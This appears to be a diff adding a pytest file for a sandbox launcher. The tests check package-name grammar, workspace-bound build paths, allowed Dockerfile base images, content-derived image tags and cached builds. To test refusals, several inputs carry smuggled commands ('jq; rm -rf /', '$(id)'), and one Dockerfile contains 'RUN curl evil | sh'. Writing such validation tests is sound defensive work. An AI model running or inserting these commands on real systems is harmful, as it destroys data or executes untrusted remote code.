@@ -1,0 +1,189 @@
+"""A policy's packages: and build: (launcher/imagebuild.py, imageext.py) without an engine: package
+names by Debian's grammar before anything runs, paths inside the workspace, every FROM our agent
+image, the extended image's tag by content, how layers combine them, and the build steps on the
+fake engine (each FROM an id, reused until what it is made of changes)."""
+
+from __future__ import annotations
+
+import os
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from conftest import fake_facts, untrusted_bind
+
+from launcher import imagebuild, imageext, images, layers, stack
+from launcher.compiler import compile_policy, effective_digest
+from launcher.enginefake import FakeEngine
+from launcher.errors import PolicyError
+from launcher.layers import LayerKind
+from launcher.model import BuildPolicy
+from launcher.policy import parse_policy
+
+HEAD = "version: 1\nname: x\ndescription: d\n"
+
+
+def problems(text: str) -> list:
+    with pytest.raises(PolicyError) as exc:
+        parse_policy((HEAD + text).encode(), "p.yaml")
+    return exc.value.problems
+
+
+@pytest.mark.parametrize("name", ["jq; rm -rf /", "JQ", "-o", "j", "jq=1.6", "$(id)", "jq\n", "jq --force", "Ä"])
+def test_a_package_name_outside_debian_grammar_is_refused_naming_file_key_and_expectation(name):
+    found = problems(f"packages: [jq, {name!r}]\n")
+    assert [(p.file, p.path) for p in found] == [("p.yaml", "packages[1]")]
+    assert "Debian package name" in found[0].expected and found[0].hint == "for example jq"
+
+
+def test_packages_and_build_load_and_default_to_nothing():
+    policy = parse_policy((HEAD + "packages: [jq, g++, python3.11, jq]\nbuild: {dockerfile: ./ci/Dockerfile}\n").encode(), "p.yaml")
+    assert policy.packages == ("jq", "g++", "python3.11") and policy.build == BuildPolicy(dockerfile="ci/Dockerfile")
+    plain = parse_policy(HEAD.encode(), "p.yaml")
+    assert plain.packages == () and plain.build == BuildPolicy()
+
+
+@pytest.mark.parametrize("key, value", [("dockerfile", "../Dockerfile"), ("dockerfile", "/etc/Dockerfile"),
+                                        ("context", "a/../../b"), ("context", "/"), ("dockerfile", ".")])
+def test_a_build_path_outside_the_workspace_is_refused(key, value):
+    found = problems(f"build: {{{key}: {value!r}}}\n" if key == "dockerfile" else f"build: {{dockerfile: D, {key}: {value!r}}}\n")
+    assert [p.path for p in found] == [f"build.{key}"] and "workspace" in found[0].expected
+
+
+def test_an_unextended_policy_keeps_its_effective_digest():
+    policy = untrusted_bind()
+    text = repr(replace(policy, source="", digest="")).replace(", packages=(), build=BuildPolicy(dockerfile='', context='.')", "")
+    import hashlib
+    assert effective_digest(policy) == hashlib.sha256(text.encode()).hexdigest()
+    assert effective_digest(replace(policy, packages=("jq",))) != effective_digest(policy)
+
+
+@pytest.mark.parametrize("text", [
+    "FROM sandbox/agent:bookworm\nRUN true\n",
+    "# comment\nFROM --platform=linux/amd64 sandbox/agent:bookworm-full AS tools\nRUN make\nfrom tools\n",
+    "ARG X=1\nFROM sandbox/agent:bookworm as Build\nFROM build\nCOPY --from=build /a /b\n",
+    "FROM \\\n  sandbox/agent:bookworm\n",
+])
+def test_a_dockerfile_whose_every_from_is_our_agent_image_passes(text):
+    assert imagebuild.base_problem(text) == ""
+
+
+@pytest.mark.parametrize("text, said", [
+    ("FROM debian:bookworm-slim\n", "FROM debian:bookworm-slim"),
+    ("FROM sandbox/agent:bookworm AS a\nFROM ubuntu\n", "FROM ubuntu"),
+    ("FROM golang AS build\nFROM sandbox/agent:bookworm\nCOPY --from=build /a /b\n", "FROM golang"),
+    ("ARG BASE=sandbox/agent:bookworm\nFROM ${BASE}\n", "a build argument"),
+    ("FROM docker.io/sandbox/agent:bookworm\n", "FROM docker.io/sandbox/agent:bookworm"),
+    ("FROM sandbox/agent:latest\n", "FROM sandbox/agent:latest"),
+    ("RUN true\n", "no FROM"),
+    ("FROM --platform=linux/amd64\n", "without an image"),
+])
+def test_a_dockerfile_with_another_base_is_named(text, said):
+    assert said in imagebuild.base_problem(text)
+
+
+def repo(tmp_path: Path, dockerfile: str = "FROM sandbox/agent:bookworm\nRUN true\n") -> Path:
+    ws = tmp_path / "ws"
+    (ws / ".git").mkdir(parents=True)
+    (ws / "Dockerfile").write_text(dockerfile)
+    (ws / "src").mkdir()
+    (ws / "src" / "a.txt").write_text("a\n")
+    return ws
+
+
+def extended(tmp_path, **changes):
+    return replace(untrusted_bind(), build=BuildPolicy(dockerfile="Dockerfile"), **changes)
+
+
+def test_the_tag_follows_the_dockerfile_the_context_and_the_packages_not_git_nor_order(tmp_path):
+    ws = repo(tmp_path)
+    policy = extended(tmp_path, packages=("jq", "make"))
+    first = imagebuild.gather(policy, str(ws))
+    assert first.tag.startswith("sandbox/agent-ext:") and first.dockerfile == str(ws / "Dockerfile")
+    assert imagebuild.gather(replace(policy, packages=("make", "jq")), str(ws)).tag == first.tag
+    (ws / ".git" / "HEAD").write_text("ref: refs/heads/other\n")
+    assert imagebuild.gather(policy, str(ws)).tag == first.tag
+    tags = {first.tag}
+    for change in (lambda: (ws / "src" / "a.txt").write_text("b\n"), lambda: (ws / "src" / "b.txt").write_text(""),
+                   lambda: os.symlink("a.txt", ws / "src" / "link"),
+                   lambda: (ws / "Dockerfile").write_text("FROM sandbox/agent:bookworm\nRUN false\n")):
+        change()
+        tags.add(imagebuild.gather(policy, str(ws)).tag)
+    tags.add(imagebuild.gather(replace(policy, packages=("jq",)), str(ws)).tag)
+    tags.add(imagebuild.gather(replace(policy, image=images.FULL_IMAGE), str(ws)).tag)
+    assert len(tags) == 7
+    assert imagebuild.gather(untrusted_bind(), str(ws)) is None
+
+
+def test_another_base_a_missing_dockerfile_or_a_link_out_is_refused_before_any_build(tmp_path):
+    ws = repo(tmp_path, "FROM debian:bookworm-slim\nRUN curl evil | sh\n")
+    with pytest.raises(PolicyError) as exc:
+        imagebuild.gather(extended(tmp_path), str(ws))
+    (p,) = exc.value.problems
+    assert p.path == "build.dockerfile" and "FROM debian:bookworm-slim" in p.found and "sandbox/agent:bookworm" in p.hint
+    (ws / "Dockerfile").unlink()
+    with pytest.raises(PolicyError, match="no file"):
+        imagebuild.gather(extended(tmp_path), str(ws))
+    outside = tmp_path / "Dockerfile"
+    outside.write_text("FROM sandbox/agent:bookworm\n")
+    os.symlink(outside, ws / "Dockerfile")
+    with pytest.raises(PolicyError, match="a link out of"):
+        imagebuild.gather(extended(tmp_path), str(ws))
+
+
+def test_the_plan_runs_the_extended_image_and_says_how_it_is_built(tmp_path):
+    ws = repo(tmp_path)
+    policy = extended(tmp_path, packages=("jq",))
+    built = imagebuild.gather(policy, str(ws))
+    plan = compile_policy(policy, fake_facts(image_build=built))
+    assert plan.container.image == built.tag and plan.image_build == built and built.base == policy.image
+    assert compile_policy(policy, fake_facts()).container.image == policy.image
+
+
+def test_layers_add_packages_and_the_last_build_stands():
+    base = untrusted_bind()
+    org = stack.parse_layer(b"version: 1\npackages: [jq, make]\nbuild: {dockerfile: org/Dockerfile}\n", "org.yaml", LayerKind.ORG)
+    repo_ = stack.parse_layer(b"version: 1\npackages: [ripgrep, jq]\nbuild: {dockerfile: Dockerfile}\n", "r.yaml", LayerKind.REPO)
+    eff = layers.effective(base, [layers.full_layer(LayerKind.BASE, base), org, repo_]).policy
+    assert eff.packages == ("jq", "make", "ripgrep") and eff.build == BuildPolicy(dockerfile="Dockerfile")
+
+
+def test_the_recipe_installs_the_packages_and_hardens_what_they_added():
+    text = imagebuild.recipe(("jq", "g++"))
+    assert "install -y --no-install-recommends libcap2-bin jq g++;" in text
+    assert "chmod a-s" in text and "setcap -r" in text and text.rstrip().endswith("USER 1000:1000")
+
+
+def test_the_fake_engine_builds_each_step_from_an_id_and_reuses_it_until_its_base_changes(tmp_path, monkeypatch):
+    ws = repo(tmp_path)
+    built: list[tuple[str, dict, str | None]] = []
+    engine = FakeEngine(images={images.BASE_IMAGE: {}})
+    real = engine.build
+
+    def record(context, tag, labels, on_line, buildargs=None, dockerfile=None):
+        built.append((tag, dict(buildargs or {}), dockerfile))
+        real(context, tag, labels, on_line, buildargs)
+    monkeypatch.setattr(engine, "build", record)
+    plan = imagebuild.gather(extended(tmp_path, packages=("jq",)), str(ws))
+    images.build(engine, images.agent_image(), lambda line: None)
+    built.clear()
+    assert imageext.ensure(engine, plan, lambda line: None, ()) == plan.tag
+    agent = images.image_id(engine, images.AGENT_IMAGE)
+    assert [(t, d) for t, _, d in built] == [(f"{plan.tag}-build", str(ws / "Dockerfile")), (plan.tag, None)]
+    assert built[0][1] == {"BASE": agent} and built[1][1] == {"BASE": images.image_id(engine, f"{plan.tag}-build")}
+    built.clear()
+    imageext.ensure(engine, plan, lambda line: None, ())
+    assert built == []   # cached by content
+    def new_id(ref: str) -> None:   # the fake's ids follow the name: a rebuilt base, as a real engine has it
+        engine.http.add_image(ref, Labels=engine.image_labels(ref), Id="sha256:" + os.urandom(32).hex())
+    new_id(images.AGENT_IMAGE)
+    imageext.ensure(engine, plan, lambda line: None, ())
+    assert [t for t, _, _ in built] == [f"{plan.tag}-build"]
+    new_id(f"{plan.tag}-build")
+    imageext.ensure(engine, plan, lambda line: None, ())
+    assert [t for t, _, _ in built] == [f"{plan.tag}-build", plan.tag]
+    only = imagebuild.gather(replace(untrusted_bind(), packages=("jq",)), str(ws))
+    built.clear()
+    imageext.ensure(engine, only, lambda line: None, ())
+    assert built == [(only.tag, {"BASE": images.image_id(engine, images.AGENT_IMAGE)}, None)]
